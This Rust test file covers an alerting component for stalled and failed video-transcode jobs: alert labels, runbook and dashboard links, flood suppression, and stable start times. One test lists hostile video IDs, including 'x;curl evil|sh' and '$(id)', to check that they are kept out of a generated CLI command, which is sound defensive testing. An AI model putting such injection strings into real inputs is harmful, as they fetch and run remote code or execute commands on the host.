use std::time::Duration;

use proptest::prelude::*;

use super::*;
use crate::config::OWN_LABELS;
use crate::ledger::snapshot::{Mode, Role};
use crate::vod::fault::{ErrorCode, Fault};

const NOW: UnixMillis = UnixMillis::from_secs(1_000_000);

fn identity(id: &str) -> Arc<QueueIdentity> {
    Arc::new(QueueIdentity {
        id: id.into(),
        mns_queue: id.into(),
        endpoint: "http://127.0.0.1".into(),
        account: "".into(),
        region: "cn-shanghai".into(),
        mode: Mode::Consume,
        role: Role::Callback,
    })
}

fn trouble(number: u32, since: i64, ailment: Ailment) -> Trouble {
    Trouble {
        media: MediaKey::of(&format!("video-{number}")),
        ailment,
        since: UnixMillis::from_secs(since),
        started: UnixMillis::from_secs(since - 900),
        last_sign: UnixMillis::from_secs(since - 600),
        place: number,
        failure: None,
        abandoned: None,
    }
}

fn stalled(number: u32, since: i64) -> Trouble {
    trouble(number, since, Ailment::Stalled(Stage::Transcode))
}

fn troubles(videos: impl IntoIterator<Item = Trouble>) -> Troubles {
    let queue = identity("q");
    Troubles {
        queues: BTreeSet::from([Arc::clone(&queue.id)]),
        videos: videos
            .into_iter()
            .map(|trouble| (Arc::clone(&queue), trouble))
            .collect(),
    }
}

fn owned<const N: usize>(labels: [(&str, &str); N]) -> BTreeMap<String, String> {
    labels
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .into()
}

#[test]
fn labels_tell_what_the_alert_is_and_nothing_that_changes() {
    let mut book = Book::default();
    let failed = trouble(2, 900, Ailment::Failed);
    let (round, suppressed) = book.look(troubles([stalled(1, 800), failed]), NOW);
    assert_eq!(suppressed, 0);
    let labels: Vec<_> = round.firing.values().map(|alert| &alert.labels).collect();
    let expected = [
        ("VodTranscodeStalled", "video-1"),
        ("VodTranscodeFailed", "video-2"),
    ];
    for (labels, (name, video)) in labels.into_iter().zip(expected) {
        let expected = [
            ("alertname", name),
            ("queue", "q"),
            ("severity", "warning"),
            ("stage", "transcode"),
            ("video_id", video),
        ];
        assert_eq!(*labels, owned(expected));
        // Which the config may not set.
        assert_eq!(expected.map(|(label, _)| label), *OWN_LABELS);
    }
    let starts: Vec<i64> = round
        .firing
        .values()
        .map(|alert| alert.starts_at.0)
        .collect();
    assert_eq!(starts, [800_000, 900_000]);
}

#[test]
fn a_stalled_video_is_labelled_with_its_stage() {
    for (stage, label, summary) in [
        (Stage::Submit, "submit", "has not been submitted"),
        (Stage::Transcode, "transcode", "makes no progress"),
    ] {
        let trouble = trouble(1, 900, Ailment::Stalled(stage));
        let alert = Alert::about(&identity("q"), &trouble, &Stamp::default());
        assert_eq!(alert.labels["stage"], label);
        let shown = &alert.annotations["summary"];
        assert!(shown.ends_with(summary), "{shown:?}");
    }
}

#[test]
fn labels_and_links_of_the_config_are_on_every_alert() {
    let links = |stamp: &Stamp, alert: &Alert| {
        let runbook = alert.annotations["runbook_url"].clone();
        let board = alert.annotations["dashboard_url"].clone();
        // The source is known to open only where the config says where Grafana is.
        let source = stamp.grafana.is_some().then(|| board.clone());
        assert_eq!(alert.generator_url, source);
        (runbook, board)
    };
    let queue = identity("a&b #1/\u{e9}");
    let look = |stamp: &Stamp| {
        let failed = trouble(0, 700, Ailment::Failed);
        let flood = (1..=60).map(|number| stalled(number, 800)).chain([failed]);
        let troubles = Troubles {
            queues: BTreeSet::from([Arc::clone(&queue.id)]),
            videos: flood.map(|trouble| (Arc::clone(&queue), trouble)).collect(),
        };
        Book::new(stamp.clone()).look(troubles, NOW).0.firing
    };
    let bare = Stamp::default();
    let url = |text: &str| Some(text.parse().unwrap());
    let stamp = Stamp {
        // Of two labels of one name its own stays.
        labels: owned([("cluster", "eu-1"), ("severity", "none")]),
        runbooks: url("https://wiki.example.org/runbooks/"),
        grafana: url("http://grafana:3000"),
    };
    let query = "?var-queue=a%26b+%231%2F%C3%A9";
    let (plain, stamped) = (look(&bare), look(&stamp));
    let mut seen = BTreeSet::new();
    for (key, alert) in &stamped {
        let name = &*alert.labels["alertname"];
        seen.insert(name);
        let mut labels = plain[key].labels.clone();
        labels.insert("cluster".to_owned(), "eu-1".to_owned());
        assert_eq!(alert.labels, labels);
        let query = if *key == Key::Suppressed { "" } else { query };
        let expected = [
            (
                &stamp,
                alert,
                "https://wiki.example.org/runbooks",
                "http://grafana:3000",
            ),
            (&bare, &plain[key], RUNBOOKS, GRAFANA),
        ];
        for (stamp, alert, runbooks, grafana) in expected {
            let runbook = format!("{runbooks}/{name}.md");
            let board = format!("{grafana}/d/vod-transcodes{query}");
            assert_eq!(links(stamp, alert), (runbook, board));
        }
    }
    assert_eq!(seen, BTreeSet::from(NAMES));
}

#[test]
fn an_id_that_is_none_gets_into_no_command_and_moves_no_cursor() {
    let about = |id: &str| {
        let trouble = Trouble {
            media: MediaKey::of(id),
            ..stalled(1, 800)
        };
        Alert::about(&identity("q"), &trouble, &Stamp::default())
    };
    let usual = "0123456789abcdef0123456789abcdef";
    let command = format!("aliyun vod GetTranscodeSummary --VideoIds {usual} --region cn-shanghai");
    assert_eq!(about(usual).annotations["ask_vod"], command);
    assert!(about("video_A-1").annotations.contains_key("ask_vod"));
    let long = "x".repeat(65);
    for id in [
        "x;curl evil|sh",
        "$(id)",
        "a b",
        "a\nb",
        "-h",
        "\u{e9}",
        &long,
    ] {
        let alert = about(id);
        assert!(!alert.annotations.contains_key("ask_vod"), "{id:?}");
    }
    let alert = about("a\n\u{1b}[2J\u{202e}b");
    assert_eq!(alert.labels["video_id"], "a  [2J b");
    let shown = &alert.annotations["description"];
    assert!(shown.starts_with("Video a  [2J b of queue q"), "{shown:?}");
}

#[test]
fn a_failure_tells_whose_fault_it_is_beside_the_labels() {
    let failed = Trouble {
        failure: Some((Fault::Config, ErrorCode::InternalError)),
        ..trouble(1, 900, Ailment::Failed)
    };
    let about = |trouble| Alert::about(&identity("q"), trouble, &Stamp::default());
    let annotations = about(&failed).annotations;
    assert_eq!(annotations["fault"], "config");
    assert_eq!(annotations["error_code"], ErrorCode::InternalError.as_str());
    assert_eq!(annotations["last_sign"], failed.last_sign.to_string());
    let stalled = about(&stalled(1, 900)).annotations;
    assert!(!stalled.contains_key("fault"), "{stalled:?}");
}

#[test]
fn five_thousand_stalls_are_fifty_alerts_and_one() {
    let mut book = Book::default();
    let flood = || troubles((0..5_000).map(|number| stalled(number, i64::from(number / 10))));
    let (round, suppressed) = book.look(flood(), NOW);
    assert_eq!((round.firing.len(), suppressed), (CAP + 1, 4_950));
    let summary = &round.firing[&Key::Suppressed];
    assert_eq!(summary.labels["alertname"], "VodTranscodeAlertsSuppressed");
    assert!(
        summary.annotations["description"].starts_with("5000 videos"),
        "{summary:?}"
    );
    let (again, suppressed) = book.look(flood(), NOW);
    assert_eq!((&again, suppressed), (&round, 0));
    let (restarted, _) = Book::default().look(flood(), NOW.plus(Duration::from_mins(2)));
    assert_eq!(restarted, round);
    let (few, suppressed) = book.look(troubles([stalled(0, 0)]), NOW);
    assert_eq!((few.firing.len(), suppressed), (1, 0));
    assert!(few.is_over(&Key::Suppressed));
}

#[test]
fn an_alert_begins_no_later_than_it_is_seen_and_never_again() {
    let at = |seconds| UnixMillis::from_secs(seconds);
    let since = NOW.plus(Duration::from_hours(2)).0 / 1000;
    let failed = |since| troubles([trouble(1, since, Ailment::Failed)]);
    let mut book = Book::default();
    let mut starts = |since, now| {
        let (round, _) = book.look(failed(since), now);
        let alert = round.firing.into_values().next();
        alert.map(|alert| alert.starts_at)
    };
    assert_eq!(starts(since, NOW), Some(NOW));
    assert_eq!(starts(since, NOW.plus(Duration::from_mins(5))), Some(NOW));
    assert_eq!(starts(since, at(since + 60)), Some(NOW));
    // Another failure is another alert.
    assert_eq!(starts(since + 30, at(since + 60)), Some(at(since + 30)));
}

#[test]
fn the_summary_begins_once() {
    let flood = |numbers: std::ops::Range<u32>| {
        troubles(numbers.map(|number| stalled(number, 1_000 + i64::from(number))))
    };
    let mut book = Book::default();
    let begins = |(round, _): (Round, usize)| round.firing[&Key::Suppressed].starts_at;
    assert_eq!(
        begins(book.look(flood(0..60), NOW)),
        UnixMillis::from_secs(1_050)
    );
    // The first ones recover, and others than before have no alert of their own.
    let later = NOW.plus(Duration::from_mins(1));
    assert_eq!(
        begins(book.look(flood(5..60), later)),
        UnixMillis::from_secs(1_050)
    );
    book.look(flood(5..20), later);
    assert_eq!(
        begins(book.look(flood(5..60), later)),
        UnixMillis::from_secs(1_055)
    );
}

#[test]
fn a_queue_that_is_not_watched_says_nothing_of_its_videos() {
    let mut book = Book::default();
    let (round, _) = book.look(troubles([stalled(1, 800)]), NOW);
    let key = round.firing.keys().next().unwrap();
    let (blind, _) = book.look(Troubles::default(), NOW);
    assert!(blind.firing.is_empty() && !blind.is_over(key));
    let (healthy, _) = book.look(troubles([]), NOW);
    assert!(healthy.is_over(key));
    assert_eq!(book.look(troubles([stalled(1, 800)]), NOW).0, round);
}

#[test]
fn a_later_deadline_in_the_past_takes_no_place() {
    let failed = || (1..=5).map(|number| trouble(number, 900, Ailment::Failed));
    let late = (6..206).map(|number| stalled(number, 100));
    let mut book = Book::default();
    let (before, _) = book.look(troubles(failed()), NOW);
    let all = || troubles(failed().chain(late.clone()));
    let (after, _) = book.look(all(), NOW);
    assert!(
        before
            .firing
            .keys()
            .all(|key| after.firing.contains_key(key))
    );
    assert_eq!(Book::default().look(all(), NOW).0, after);
}

#[test]
fn a_video_with_two_alerts_takes_one_place() {
    let videos =
        (1..=60).flat_map(|number| [stalled(number, 800), trouble(number, 700, Ailment::Failed)]);
    let (round, suppressed) = Book::default().look(troubles(videos), NOW);
    assert_eq!((round.firing.len(), suppressed), (2 * CAP + 1, 10));
}

/// A queue and its videos.
type Part = (Arc<str>, Vec<(Arc<QueueIdentity>, Trouble)>);

#[test]
fn who_got_an_alert_while_a_queue_was_away_keeps_it() {
    let of = |id: &str, numbers: std::ops::Range<u32>| {
        let queue = identity(id);
        let videos = numbers.map(|number| (Arc::clone(&queue), stalled(number, 800)));
        (Arc::clone(&queue.id), videos.collect::<Vec<_>>())
    };
    let look = |book: &mut Book, parts: &[Part]| {
        let troubles = Troubles {
            queues: parts.iter().map(|(id, _)| Arc::clone(id)).collect(),
            videos: parts
                .iter()
                .flat_map(|(_, videos)| videos.clone())
                .collect(),
        };
        book.look(troubles, NOW).0
    };
    let (first, second) = (of("a", 1..50), of("b", 50..130));
    let mut book = Book::default();
    let alone = look(&mut book, std::slice::from_ref(&second));
    let both = look(&mut book, &[first.clone(), second.clone()]);
    assert!(alone.firing.keys().all(|key| both.firing.contains_key(key)));
    let restarted = look(&mut Book::default(), &[first, second]);
    assert!(
        restarted
            .firing
            .keys()
            .all(|key| both.firing.contains_key(key))
    );
}

/// Who is in trouble at each of several looks: one who leaves and comes back stands at the end of the line, as in the ledger.
fn lines() -> impl Strategy<Value = Vec<Vec<Trouble>>> {
    let looks =
        proptest::collection::vec(proptest::collection::btree_set(0_u32..120, 0..120), 1..12);
    let sinces = proptest::collection::vec(0_i64..1_000, 120);
    (looks, sinces).prop_map(|(looks, sinces)| {
        let mut places: BTreeMap<u32, u32> = BTreeMap::new();
        let lines = (1..).zip(looks).map(|(look, present)| {
            places.retain(|number, _| present.contains(number));
            let line = present.iter().zip(&sinces).map(|(number, since)| Trouble {
                place: *places.entry(*number).or_insert(look),
                ..stalled(*number, *since)
            });
            line.collect()
        });
        lines.collect()
    })
}

proptest! {
    #[test]
    fn who_has_an_alert_keeps_it_while_it_is_true_and_a_restart_changes_nothing(lines in lines()) {
        let mut book = Book::default();
        let mut before = Round::default();
        let mut without = 0;
        for line in lines {
            let wrong = troubles(line.iter().cloned());
            let (round, newly) = book.look(wrong.clone(), NOW);
            let own = round.firing.keys().filter(|key| **key != Key::Suppressed).count();
            prop_assert_eq!(own, line.len().min(CAP));
            prop_assert_eq!(round.firing.contains_key(&Key::Suppressed), line.len() > CAP);
            prop_assert_eq!(newly, (line.len() - own).saturating_sub(without));
            without = line.len() - own;
            for (identity, trouble) in &wrong.videos {
                let key = Key::of(identity, trouble);
                prop_assert!(!before.firing.contains_key(&key) || round.firing.contains_key(&key), "{:?}", key);
            }
            let (restarted, _) = Book::default().look(wrong, NOW);
            prop_assert!(restarted.firing.keys().eq(round.firing.keys()));
            before = round;
        }
    }
}
